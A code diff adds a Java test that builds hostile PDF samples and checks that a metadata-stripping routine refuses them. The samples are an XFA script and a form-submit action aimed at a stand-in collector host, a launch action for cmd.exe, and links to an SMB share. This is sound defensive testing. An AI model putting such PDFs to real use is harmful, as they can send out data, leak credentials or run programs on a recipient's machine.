@@ -100,6 +100,86 @@ class PdfMetadataTests {
                 .hasMessage("cases.documents.error.pdfActive");
     }
 
+    /** Each active content the red team slipped through: every one refused with the message that says why. */
+    @Test
+    void formsThatSendDataLinksRemoteFilesAndXfaScriptsAreRefused() throws Exception {
+        var hostile = new java.util.LinkedHashMap<String, byte[]>();
+        hostile.put("XFA form with a script", pdf(document -> {
+            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(document);
+            var xfa = document.getDocument().createCOSStream();
+            try (var out = xfa.createOutputStream()) {
+                out.write(("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><event activity='initialize'>"
+                        + "<script contentType='application/x-javascript'>xfa.host.gotoURL('https://collector.example/')</script>"
+                        + "</event></subform></template></xdp:xdp>").getBytes(StandardCharsets.UTF_8));
+            } catch (java.io.IOException e) {
+                throw new IllegalStateException(e);
+            }
+            form.setXFA(new org.apache.pdfbox.pdmodel.interactive.form.PDXFAResource(xfa));
+            document.getDocumentCatalog().setAcroForm(form);
+        }));
+        hostile.put("open action submitting a form", pdf(document -> {
+            var submit = new org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm();
+            submit.setFile(simpleFile("https://collector.example/in"));
+            document.getDocumentCatalog().setOpenAction(submit);
+        }));
+        hostile.put("launch action", pdf(document -> {
+            var launch = new org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch();
+            launch.setFile(simpleFile("cmd.exe"));
+            document.getDocumentCatalog().setOpenAction(launch);
+        }));
+        hostile.put("link opening a web address", pdf(document -> link(document,
+                uri("https://collector.example/?case=1"))));
+        hostile.put("open action opening a web address", pdf(document -> document.getDocumentCatalog().setOpenAction(
+                uri("https://collector.example/"))));
+        hostile.put("link to a file on a network share", pdf(document -> {
+            var remote = new org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo();
+            remote.setFile(simpleFile("\\\\10.6.6.6\\share\\x.pdf"));
+            link(document, remote);
+        }));
+        hostile.put("file specification with a URL", pdf(document -> {
+            var spec = new PDComplexFileSpecification();
+            spec.setFile("smb://10.6.6.6/share/x.pdf");
+            spec.getCOSObject().setItem(org.apache.pdfbox.cos.COSName.getPDFName("FS"), org.apache.pdfbox.cos.COSName.getPDFName("URL"));
+            document.getPage(0).getCOSObject().setItem(org.apache.pdfbox.cos.COSName.getPDFName("Thumb"), spec);
+        }));
+        for (var file : hostile.entrySet()) {
+            assertThatThrownBy(() -> PdfMetadata.strip(file.getValue())).as(file.getKey()).isInstanceOf(InvalidCaseInput.class)
+                    .hasMessage("cases.documents.error.pdfActive");
+        }
+        // a plain link inside the document stays acceptable
+        byte[] inside = pdf(document -> {
+            var goTo = new org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo();
+            var destination = new org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination();
+            destination.setPage(document.getPage(1));
+            goTo.setDestination(destination);
+            link(document, goTo);
+        });
+        assertThat(PdfMetadata.strip(inside)).isNotEmpty();
+    }
+
+    private static org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification simpleFile(String name) {
+        var file = new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification();
+        file.setFile(name);
+        return file;
+    }
+
+    private static org.apache.pdfbox.pdmodel.interactive.action.PDActionURI uri(String address) {
+        var uri = new org.apache.pdfbox.pdmodel.interactive.action.PDActionURI();
+        uri.setURI(address);
+        return uri;
+    }
+
+    private static void link(PDDocument document, org.apache.pdfbox.pdmodel.interactive.action.PDAction action) {
+        var link = new org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink();
+        link.setRectangle(new org.apache.pdfbox.pdmodel.common.PDRectangle(10, 10, 100, 20));
+        link.setAction(action);
+        try {
+            document.getPage(0).getAnnotations().add(link);
+        } catch (java.io.IOException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
     @Test
     void aDamagedPdfIsRefused() {
         byte[] damaged = "%PDF-1.7\nthis is not a pdf at all".getBytes(StandardCharsets.US_ASCII);
